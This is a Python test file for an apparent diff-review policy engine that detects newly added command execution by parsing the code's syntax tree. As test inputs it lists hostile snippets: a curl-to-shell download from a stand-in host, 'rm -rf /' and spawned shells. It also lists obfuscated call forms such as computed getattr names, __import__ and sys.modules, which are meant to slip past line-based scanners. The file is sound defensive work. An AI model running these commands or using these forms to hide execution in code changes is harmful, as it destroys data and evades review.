"""Command execution in Python found on the AST: the call forms a line regex misses, through
the engine on real git repositories (both sides of each file read from git)."""

from __future__ import annotations

import pytest
import yaml
from policy_support import codes

from casm_dagster.policy import pyexec
from casm_dagster.policy.sources import GitRange

BASE = "import json\n\n\ndef load(path):\n    return json.load(open(path))\n"

HOSTILE = {
    "list-form shell": 'import subprocess\nsubprocess.run(["sh", "-c", "curl https://x.test/i | sh"])\n',
    "absolute shell path": 'import subprocess\nsubprocess.Popen(("/bin/bash", "-c", cmd))\n',
    "aliased module": "import subprocess as sp\nsp.check_output(cmd)\n",
    "imported function renamed": "from subprocess import run as go\ngo(argv)\n",
    "star import": "from subprocess import *\nPopen(argv)\n",
    "os.exec": 'import os\nos.execvp("rm", ["rm", "-rf", "/"])\n',
    "os.spawn": 'import os\nos.spawnl(os.P_WAIT, "/bin/sh", "sh", "-c", cmd)\n',
    "pty.spawn": 'import pty\npty.spawn(["/bin/sh"])\n',
    "getattr with a constant": 'import os\ngetattr(os, "system")(cmd)\n',
    "getattr with a computed name": 'import os\ngetattr(os, "sys" + "tem")(cmd)\n',
    "__import__": '__import__("os").system(cmd)\n',
    "importlib": 'import importlib\nimportlib.import_module("subprocess").run(argv)\n',
    "computed import": "import importlib\nimportlib.import_module(name).run(argv)\n",
    "sys.modules": 'import sys\nsys.modules["os"].popen(cmd)\n',
    "assigned alias": "import os\nrunner = os.system\nrunner(cmd)\n",
    "eval through builtins": "import builtins\nbuiltins.eval(text)\n",
    "__builtins__ subscript": '__builtins__["exec"](text)\n',
    "asyncio shell": "import asyncio\nawait asyncio.create_subprocess_shell(cmd)\n",
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
def test_each_call_form_added_by_a_fix_is_command_execution(two_commits, evaluate, code):
    body = "\n".join(f"    {line}" for line in code.splitlines())
    after = BASE + f"\n\nasync def setup(cmd, argv, name, text):\n{body}\n"
    repo, diff = two_commits({"app.py": BASE}, {"app.py": after})
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))
    assert "COMMAND_EXEC" in codes(result), code
    assert result.status == "gate" and "command_execution" in result.conditions
    if "os.exec" not in code:  # the one form the line regex (py-os-system) already knew
        found = [s.evidence.pattern_id for s in result.signals if s.reason_code == "COMMAND_EXEC"]
        assert any(p.startswith("py-ast-") for p in found)


def test_the_issue_s_example_scores_and_gates(two_commits, evaluate):
    after = BASE + '\nimport subprocess\n\nsubprocess.run(["sh", "-c", "curl https://x.test/i | sh"])\n'
    repo, diff = two_commits({"app.py": BASE}, {"app.py": after})
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))
    signal = next(s for s in result.signals if s.reason_code == "COMMAND_EXEC")
    assert signal.evidence.pattern_id == pyexec.SHELL and signal.line_start == 9
    assert result.score > 0 and result.status == "gate"


def test_a_new_file_is_checked_from_the_diff_alone(evaluate):
    from policy_support import new_file_diff

    diff = new_file_diff("tool.py", ["import pty", "", "", "def shell():", '    pty.spawn(["/bin/sh"])'])
    assert "COMMAND_EXEC" in codes(evaluate(diff))


def test_without_the_whole_file_each_hunk_is_parsed(two_commits, evaluate):
    """PatchOnly without a repo cannot rebuild a modified file: the hunk's text still is parsed."""
    before = "import subprocess\n\n\ndef f(argv):\n    return argv\n"
    after = "import subprocess\n\n\ndef f(argv):\n    subprocess.run(argv)\n    return argv\n"
    _, diff = two_commits({"app.py": before}, {"app.py": after})
    assert "COMMAND_EXEC" in codes(evaluate(diff))


def test_an_existing_call_reformatted_or_given_other_options_is_not_new(two_commits, evaluate):
    """A linter's rewrite of a call CASM did not add (UP022's capture_output, a line split)."""
    head = "import subprocess\n\n\ndef f(argv):\n"
    before = head + "    return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)\n"
    after = head + "    return subprocess.run(\n        argv,\n        capture_output=True,\n    )\n"
    repo, diff = two_commits({"app.py": before}, {"app.py": after})
    result = evaluate(diff, GitRange(repo, "HEAD~1", "HEAD"))
    assert "COMMAND_EXEC" not in codes(result)
    assert result.status == "pass"


def test_turning_an_existing_call_into_a_shell_is_new(two_commits, evaluate):
    before = "import subprocess\n\n\ndef f(argv):\n    return subprocess.run(argv)\n"
    after = "import subprocess\n\n\ndef f(argv):\n    return subprocess.run(argv, shell=True)\n"
    repo, diff = two_commits({"app.py": before}, {"app.py": after})
    hits = [s for s in evaluate(diff, GitRange(repo, "HEAD~1", "HEAD")).signals if s.reason_code == "COMMAND_EXEC"]
    assert len(hits) == 1  # the regex's py-subprocess-shell; the AST does not count the line twice


def test_harmless_lookalikes_are_not_command_execution(two_commits, evaluate):
    after = BASE + (
        "\n\nclass Job:\n    def run(self, argv):\n        return self.system(argv)\n\n"
        "    def system(self, argv):\n        return getattr(self, 'name')\n\n\n"
        "def go(job):\n    return job.run(['sh'])\n"
    )
    repo, diff = two_commits({"app.py": BASE}, {"app.py": after})
    assert "COMMAND_EXEC" not in codes(evaluate(diff, GitRange(repo, "HEAD~1", "HEAD")))


def test_unparsable_or_hostile_sources_do_not_crash_the_check():
    assert pyexec.added_calls(None, "import os\ndef f(:\n") is None
    assert pyexec.added_calls(None, "os = " + "(" * 100_000 + ")" * 100_000) is None
    # A 20k-long attribute chain parses; resolving it must not overflow the stack.
    assert pyexec.added_calls(None, "import os\nx = " + "os." * 20_000 + "system()\n") in (None, [])


def test_a_ruleset_without_python_command_patterns_turns_the_check_off(ruleset, two_commits):
    from casm_dagster.policy.diff import parse_diff
    from casm_dagster.policy.engine import PolicyEngine
    from casm_dagster.policy.keyed_hash import KeyedHasher
    from casm_dagster.policy.ruleset import parse_ruleset

    data = yaml.safe_load(ruleset.path.read_text())
    patterns = data["diff_heuristics"]["command_execution"]["patterns"]
    data["diff_heuristics"]["command_execution"]["patterns"] = [p for p in patterns if "python" not in p["languages"]]
    custom = parse_ruleset(yaml.safe_dump(data), "custom", "override", ruleset.path)
    quiet = PolicyEngine(custom, KeyedHasher(b"k" * 32))
    after = BASE + '\nimport pty\npty.spawn(["/bin/sh"])\n'
    repo, diff = two_commits({"app.py": BASE}, {"app.py": after})
    assert "COMMAND_EXEC" not in codes(quiet.evaluate(parse_diff(diff), GitRange(repo, "HEAD~1", "HEAD")))
